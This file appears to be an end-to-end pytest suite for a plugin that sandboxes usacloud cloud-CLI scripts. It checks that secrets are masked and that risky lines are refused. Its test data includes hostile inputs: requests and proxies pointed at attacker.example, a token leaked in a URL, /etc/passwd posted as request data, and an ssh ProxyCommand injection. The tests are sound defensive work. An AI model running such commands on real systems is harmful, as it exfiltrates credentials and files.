"""End to end: the sandbox is sealed in commands mode."""

from __future__ import annotations

import json

import pytest
from standin_tools import STANDIN_BIN


# -- VAR=value prefixes are applied or refuse the command -----------------------------------
def test_allowed_prefix_is_applied(e2e):
    """The issue's example: with the prefix dropped, `delete -y web` also deleted web1."""
    e2e.script(
        "exact.usacloud",
        """\
        usacloud switch create -y --name web
        usacloud switch create -y --name web1
        SAKURACLOUD_ARGUMENT_MATCH_MODE=exact usacloud switch delete -y web
        usacloud switch read web1
        """,
    )
    e2e.env(STANDIN_STATE="")
    result = e2e.run("--usacloud-fake", "--usacloud-allow-dangerous")
    result.assert_outcomes(passed=1)
    assert [c["exit"] for c in e2e.calls()] == [0, 0, 0, 0]


REFUSED_PREFIXES = [
    "SAKURACLOUD_API_ROOT_URL=https://attacker.example",
    "HTTPS_PROXY=http://attacker.example:8080",
    "SAKURACLOUD_ZONE=is1a",
    "env SAKURACLOUD_PROFILE=prod",
    "FOO=1",
]


def test_other_prefixes_refuse_the_command(e2e):
    for n, prefix in enumerate(REFUSED_PREFIXES):  # one script each, in one run
        e2e.script(f"route{n}.usacloud", f"{prefix} usacloud zone list\n")
    result = e2e.run("--usacloud-error-policy=continue")
    result.assert_outcomes(failed=len(REFUSED_PREFIXES))
    for n, prefix in enumerate(REFUSED_PREFIXES):
        name = prefix.removeprefix("env ").split("=")[0]
        result.stdout.fnmatch_lines([f"refused: *(environment)*{name}*", f"  at scripts/route{n}.usacloud:1"])
    assert e2e.calls() == []


# -- commands mode runs only straight-line scripts -------------------------------------------
BRANCHY = """\
usacloud zone list
if false; then
    usacloud server delete -y web
fi
"""


def test_control_flow_fails_the_whole_script_before_anything_runs(e2e):
    e2e.script("branchy.usacloud", BRANCHY)
    e2e.script(
        "fine.usacloud", "set -euo pipefail\nusacloud zone list | jq .\nusacloud region list && usacloud zone list\n"
    )
    result = e2e.run("--usacloud-allow-dangerous")
    result.assert_outcomes(passed=1, failed=1)
    result.stdout.fnmatch_lines(
        [
            "invalid-script: line 2: the usacloud command on line 3 runs inside `if` (line 2)*"
            "mark it `usacloud_shell` or run `--usacloud-mode=shell`*",
            "  at scripts/branchy.usacloud:2",
        ]
    )
    # nothing of branchy ran, not even its first, straight-line command
    assert sorted(a[0] for a in e2e.argvs()) == ["region", "zone", "zone"]


def test_control_flow_fails_in_dry_run_too(e2e):
    e2e.script("branchy.usacloud", "usacloud server read web || usacloud server create -y --name web\n")
    result = e2e.run("--usacloud-dry-run")
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["invalid-script: *after `||` (line 1)*", "  at scripts/branchy.usacloud:1"])


def test_a_condition_commands_mode_does_not_run_guards_nothing(e2e):
    """Hostile review: `test -f ... && usacloud ...` ran the create although bash would not have."""
    e2e.script("guarded.usacloud", "test -f /nonexistent/prod-ok && usacloud switch create -y --name only-if\n")
    result = e2e.run()
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["invalid-script: *after `&&` that follows a command commands mode does not run*"])
    assert e2e.calls() == []


def test_shell_mode_runs_control_flow(e2e):
    e2e.script("marked.usacloud", "# pytest.mark.usacloud_shell\n" + BRANCHY)
    e2e.script("moded.usacloud", BRANCHY)
    result = e2e.run("--usacloud-mode=shell")
    result.assert_outcomes(passed=2)
    assert [a[0] for a in e2e.argvs()] == ["zone", "zone"]  # bash skipped the delete


# -- inline secrets are masked everywhere -----------------------------------------------------
def test_inline_secret_is_masked_everywhere(e2e):
    secret, short = "inl1ne-s3cr3t-4d2c", "q9z"
    e2e.script(
        "inline.usacloud",
        f"SAKURACLOUD_ACCESS_TOKEN_SECRET={secret} usacloud zone list\n"
        f"SAKURA_ACCESS_TOKEN='{short}' usacloud region list\n",
    )
    report, junit = e2e.tmp / "r.json", e2e.tmp / "j.xml"
    result = e2e.run(f"--usacloud-report={report}", f"--junitxml={junit}", "--usacloud-error-policy=continue")
    result.assert_outcomes(failed=1)
    text = result.stdout.str() + result.stderr.str() + report.read_text() + junit.read_text()
    assert secret not in text
    assert f"={short}" not in text and f"='{short}'" not in text
    assert "SAKURACLOUD_ACCESS_TOKEN_SECRET=***" in text  # still shown, masked
    commands = json.loads(report.read_text())["scripts"][0]["commands"]
    assert all(secret not in json.dumps(c) for c in commands)
    assert e2e.calls() == []  # and refused: a script never hands usacloud its own key


def test_boolean_secret_looking_flag_masks_nothing(e2e):
    e2e.script("iso.usacloud", "usacloud cdrom download -y --change-password myisoimage --destination out.iso\n")
    report = e2e.tmp / "r.json"
    result = e2e.run("--usacloud-dry-run", f"--usacloud-report={report}")
    result.assert_outcomes(passed=1)
    (command,) = json.loads(report.read_text())["scripts"][0]["commands"]
    assert "--change-password myisoimage" in command["text"]
    assert command["words"][-4:] == ["--change-password", "myisoimage", "--destination", "out.iso"]


# -- 11.3 / 11.4 / 11.5 through the whole run ----------------------------------------------------------
REFUSED_LINES = [
    ("usacloud rest https://attacker.example/collect", "rest-url"),
    ("usacloud rest https://secure.sakura.ad.jp/cloud/zone/%69s1a/api/cloud/1.1/server", "zone-escape"),
    ("usacloud rest -X post -d /etc/passwd /note", "rest-data"),
    ("usacloud server ssh web -- -oProxyCommand=touch/tmp/x", "dangerous"),
    ("usacloud server update -y web --force-shutdown --cpu 2", "dangerous"),
    ("usacloud --profile prod zone list", "route"),
]


def test_refused_before_anything_runs(e2e):
    for n, (line, _) in enumerate(REFUSED_LINES):  # one script each, in one run
        e2e.script(f"refused{n}.usacloud", line + "\n")
    result = e2e.run("--usacloud-allow-global-writes", "--usacloud-error-policy=continue")
    result.assert_outcomes(failed=len(REFUSED_LINES))
    for n, (_, rule) in enumerate(REFUSED_LINES):
        result.stdout.fnmatch_lines([f"refused: *({rule})*", f"  at scripts/refused{n}.usacloud:1"])
    assert e2e.calls() == []


# -- under --usacloud-fake, what usacloud does not fake is refused ---------------------------------
def test_fake_mode_refuses_rest(e2e):
    e2e.script("rest.usacloud", "usacloud zone list\nusacloud rest /zone\n")
    result = e2e.run("--usacloud-fake", "--usacloud-allow-global-writes", "--usacloud-allow-dangerous")
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(
        ["refused: *(fake-mode)*usacloud does not fake `rest`*", "  at scripts/rest.usacloud:2"]
    )
    assert e2e.argvs() == [["zone", "list"]]


# -- the worker cap holds however workers are asked for -------------------------------------------
@pytest.mark.parametrize(
    "args",
    [
        ["-n", "11"],
        ["-d", "--tx", "12*popen"],
        ["--dist=load", "--tx", "6*popen", "--tx", "6*popen"],
        ["-d", *(["--tx", "popen"] * 11)],
    ],
)
def test_worker_cap_holds_for_every_way_of_asking(e2e, args):
    e2e.script("a.usacloud", "usacloud zone list\n")
    result = e2e.usage_error(*args)
    stderr = result.stderr.str()
    assert "usacloud_max_workers" in stderr and "at most 10 workers" in stderr, stderr
    assert e2e.calls() == []


def test_worker_cap_allows_what_it_allows(e2e):
    e2e.script("a.usacloud", "usacloud zone list\n")
    result = e2e.run("-d", "--tx", "2*popen")
    result.assert_outcomes(passed=1)


def test_refusal_messages_are_masked(e2e):
    e2e.env(SAKURACLOUD_ACCESS_TOKEN="run-token-5e6f7a8b")
    e2e.script("leak.usacloud", "usacloud rest 'https://attacker.example/?t=run-token-5e6f7a8b'\n")
    report = e2e.tmp / "r.json"
    result = e2e.run(f"--usacloud-report={report}")
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["refused: *(rest-url)*attacker.example/?t=[*][*][*]*", "  at scripts/leak.usacloud:1"])
    assert "run-token-5e6f7a8b" not in result.stdout.str() + report.read_text()


# -- the machine's usacloud profiles are not read unless --usacloud-allow-profiles -----------------
@pytest.mark.parametrize("allowed", [False, True])
def test_machine_profiles_are_not_read_by_default(e2e, tmp_path, allowed):
    """A developer's `usacloud config` leaves ~/.usacloud/default/config.json with a production key,
    zone and API root; by default usacloud is pointed at an empty profile directory instead.
    One script in each mode, in one run."""
    home = tmp_path / "home"
    profile = home / ".usacloud" / "default" / "config.json"
    profile.parent.mkdir(parents=True)
    profile.write_text(
        json.dumps(
            {
                "AccessToken": "PRODTOKEN99",
                "AccessTokenSecret": "PRODSECRET99",
                "Zone": "is1a",
                "APIRootURL": "https://attacker.example/",
            }
        )
    )
    e2e.env(HOME=home)
    e2e.script("commands.usacloud", "usacloud server list\n")
    e2e.script("shell.usacloud", "# pytest.mark.usacloud_shell\nusacloud server list\n")
    result = e2e.run(*(["--usacloud-allow-profiles"] if allowed else []))
    result.assert_outcomes(passed=2)
    calls = e2e.calls()
    assert len(calls) == 2
    for call in calls:
        assert call["zone_env"] == "tk1v"
        if allowed:
            assert call["auth"]["profile_file"] == str(profile)
        else:
            assert call["auth"]["profile_file"] is None
            assert call["auth"]["profile"] == ""  # none named: usacloud reads no profile
    assert "PRODTOKEN99" not in result.stdout.str()


def test_a_shell_script_calling_usacloud_directly_gets_no_key_and_no_profile(e2e, tmp_path):
    """Hostile review #2: `PATH=...:$PATH command usacloud` (or an absolute path) bypasses the sandbox
    function. Shell mode is not a jail, but such a call must find neither the key nor a profile."""
    home = tmp_path / "home"
    (home / ".usacloud" / "default").mkdir(parents=True)
    (home / ".usacloud" / "default" / "config.json").write_text('{"AccessToken": "PRODTOKEN99"}')
    e2e.env(HOME=home, SAKURACLOUD_ACCESS_TOKEN="runtoken1234", SAKURACLOUD_ACCESS_TOKEN_SECRET="runsecret5678")
    e2e.env(SAKURACLOUD_PROFILE="default")  # removed from bash's environment too: it would make a no-op
    e2e.script(
        "direct.usacloud",
        f"PATH={STANDIN_BIN.parent}:$PATH command usacloud server list || true\nusacloud zone list\n",
    )
    result = e2e.run("--usacloud-mode=shell")
    result.assert_outcomes(passed=1)
    direct, sandboxed = e2e.calls()
    assert direct["zone_env"] == "tk1v" and direct["zones_env"] == "tk1v"  # the pins in bash's environment
    assert direct["auth"]["token"] == "" and direct["auth"]["profile_file"] is None
    assert direct["auth"]["profile"] == "" and direct["exit"] == 0  # no profile named, none read
    assert sandboxed["auth"]["token"] == "runtoken1234"


# -- an empty target matches every resource of the zone -------------------------------------------
def test_an_empty_target_is_refused_before_it_runs_whatever_the_options(e2e):
    e2e.script("empty.usacloud", 'usacloud switch create -y --name sw -q\nusacloud switch delete -y ""\n')
    for args in ((), ("--usacloud-allow-dangerous", "--usacloud-allow-global-writes"), ("--usacloud-dry-run",)):
        result = e2e.run(*args)
        result.assert_outcomes(failed=1)
        result.stdout.fnmatch_lines(
            [
                "refused: refused by the sandbox policy (empty-target): target argument 1 of `switch delete` is "
                "empty*every switch in the zone*no option allows it",
                "  at scripts/empty.usacloud:2",
            ]
        )
    assert [a[:2] for a in e2e.argvs()] == [["switch", "create"], ["switch", "create"]]


# -- no secret in a repr, a traceback or a local variable ------------------------------------------
SECRET = "tok-3f9a1c7e5b2d8046"


def test_a_line_of_unicode_spaces_is_no_crash_and_shows_no_secret(e2e):
    """bash reads U+3000 as a word character; the lexer once crashed on such a line, and `-l -vv`
    printed the Engine (the run's environment, the key included)."""
    e2e.env(SAKURACLOUD_ACCESS_TOKEN=SECRET, SAKURACLOUD_ACCESS_TOKEN_SECRET=SECRET[::-1])
    e2e.script("spaces.usacloud", "usacloud zone list\n\u3000\nusacloud\u3000switch create\nusacloud region list\n")
    e2e.script("fails.usacloud", "usacloud server read nope\n")
    junit = e2e.tmp / "junit.xml"
    result = e2e.run("-l", "-vv", f"--junitxml={junit}", "--usacloud-error-policy=continue")
    result.assert_outcomes(passed=1, failed=1)
    # `usacloud<U+3000>switch` is no usacloud command
    assert sorted(a[0] for a in e2e.argvs()) == ["region", "server", "zone"]
    text = result.stdout.str() + result.stderr.str() + junit.read_text()
    assert SECRET not in text and SECRET[::-1] not in text


def test_an_internal_error_shows_neither_the_key_nor_the_frames_variables(e2e):
    from pytest_usacloud_sandbox.run.execute import Engine

    def broken(self, script, record):
        env = dict(self.base_env)  # a local that holds the key
        raise RuntimeError(f"broken on purpose ({len(env)} variables)")

    e2e.monkeypatch.setattr(Engine, "run", broken)
    e2e.env(SAKURACLOUD_ACCESS_TOKEN=SECRET)
    e2e.script("a.usacloud", f"usacloud zone list --token {SECRET[::-1]}\n")
    junit = e2e.tmp / "junit.xml"
    result = e2e.run("-l", "-vv", "--tb=long", f"--junitxml={junit}")
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(
        [
            "error: internal error in pytest-usacloud-sandbox: RuntimeError: broken on purpose *",
            "  at scripts/a.usacloud",
        ]
    )
    text = result.stdout.str() + result.stderr.str() + junit.read_text()
    assert SECRET not in text and SECRET[::-1] not in text


def test_the_objects_the_plugin_holds_show_no_secret_in_their_repr(tmp_path):
    from pytest_usacloud_sandbox.run.execute import Engine
    from pytest_usacloud_sandbox.run.protocol import Request
    from pytest_usacloud_sandbox.settings import Settings
    from pytest_usacloud_sandbox.state.stop import StopSignal
    from pytest_usacloud_sandbox.usacloud.mask import Masker
    from pytest_usacloud_sandbox.usacloud.result import RunResult

    env = {"SAKURACLOUD_ACCESS_TOKEN": SECRET, "PATH": "/bin"}
    engine = Engine(Settings(), None, StopSignal(tmp_path / "stop"), env, tmp_path)
    trace = f"Authorization: Basic {SECRET}"
    objects = [
        engine,
        Masker.from_sources(env),
        RunResult(("usacloud",), 0, None, trace, trace, False, 0.0, 0.0, 0.0),
        Request("fn", SECRET, 1, 1, ["zone", "list", "--token", SECRET], env),
    ]
    for thing in objects:
        assert SECRET not in repr(thing) and SECRET not in str(thing), type(thing)


# -- commands mode never runs what bash would not -------------------------------------------------
BASH_WOULD_NOT = {
    "guard.usacloud": 'if [ "${APPLY:-no}" != yes ]; then echo dry; exit 0; fi\nusacloud switch create -y --name a\n',
    "die.usacloud": 'die() { echo "$*" >&2; exit 1; }\n[ -n "$KEY" ] || true\ndie "no key"\nusacloud zone list\n',
    "toggle.usacloud": 'usacloud() { echo "+ usacloud $*"; }\nusacloud switch create -y --name b\n',
    "alias.usacloud": "shopt -s expand_aliases\nalias usacloud='echo'\nusacloud zone list\n",
    "eval.usacloud": "eval exit 0\nusacloud zone list\n",
    "kill.usacloud": "kill $$\nusacloud zone list\n",
    "noexec.usacloud": "set -n\nusacloud zone list\n",
    "escaped.usacloud": "\\exit 0\nusacloud zone list\n",
}


def test_scripts_that_bash_would_stop_or_redirect_fail_before_anything_runs(e2e):
    for name, text in BASH_WOULD_NOT.items():
        e2e.script(name, text)
    result = e2e.run("--usacloud-error-policy=continue")
    result.assert_outcomes(failed=len(BASH_WOULD_NOT))
    result.stdout.fnmatch_lines_random(
        [f"FAILED scripts/{name}::* - invalid-script: line *" for name in BASH_WOULD_NOT]
    )
    # The short summary repeats each message as far as the terminal is wide: count above it.
    failures = result.stdout.str().split("short test summary info")[0]
    assert failures.count("commands mode runs only straight-line scripts") == len(BASH_WOULD_NOT)
    assert e2e.calls() == []


@pytest.mark.parametrize("fake", [False, True])
def test_a_profile_named_by_the_run_leaves_no_command_a_no_op(e2e, tmp_path, fake):
    """usacloud 1.22.8 with a named profile its profile directory lacks (even `default`) prints
    `API Error - failed to open ...`, runs nothing and exits 0: the sandbox pins the directory only
    and removes the run's profile names, so a must-fail read fails and a read passes with its output,
    in both modes."""
    e2e.env(SAKURACLOUD_PROFILE="prod", SAKURA_PROFILE="default", USACLOUD_PROFILE="default", HOME=tmp_path)
    for mode in ("commands", "shell"):
        shell = "# pytest.mark.usacloud_shell\nset -e\n" if mode == "shell" else ""
        e2e.script(f"{mode}_missing.usacloud", f"{shell}usacloud server read missing\n")
        e2e.script(f"{mode}_zones.usacloud", f"{shell}usacloud zone list -q\n")
    report = e2e.tmp / "report.json"
    result = e2e.run(f"--usacloud-report={report}", *(["--usacloud-fake"] if fake else []))
    result.assert_outcomes(passed=2, failed=2)
    result.stdout.fnmatch_lines(["FAILED scripts/*_missing.usacloud::*_missing - not-found: *"] * 2)
    assert result.stdout.str().count('target resource not found: query=["missing"]') >= 2
    for call in e2e.calls():
        assert call["auth"]["profile"] == "" and call["auth"]["profile_file"] is None
    zones = [c for s in json.loads(report.read_text())["scripts"] for c in s["commands"] if "zone" in c["text"]]
    assert [c["stdout_tail"] for c in zones] == ["21001\n21002\n29001\n31001\n31002\n"] * 2


def test_fake_mode_drops_a_profile_flag_with_its_value(e2e):
    e2e.script("profile.usacloud", "usacloud --profile prod zone list -q\nusacloud server list --profile=prod\n")
    result = e2e.run("--usacloud-fake")
    result.assert_outcomes(passed=1)
    assert e2e.argvs() == [["zone", "list", "-q"], ["server", "list"]]
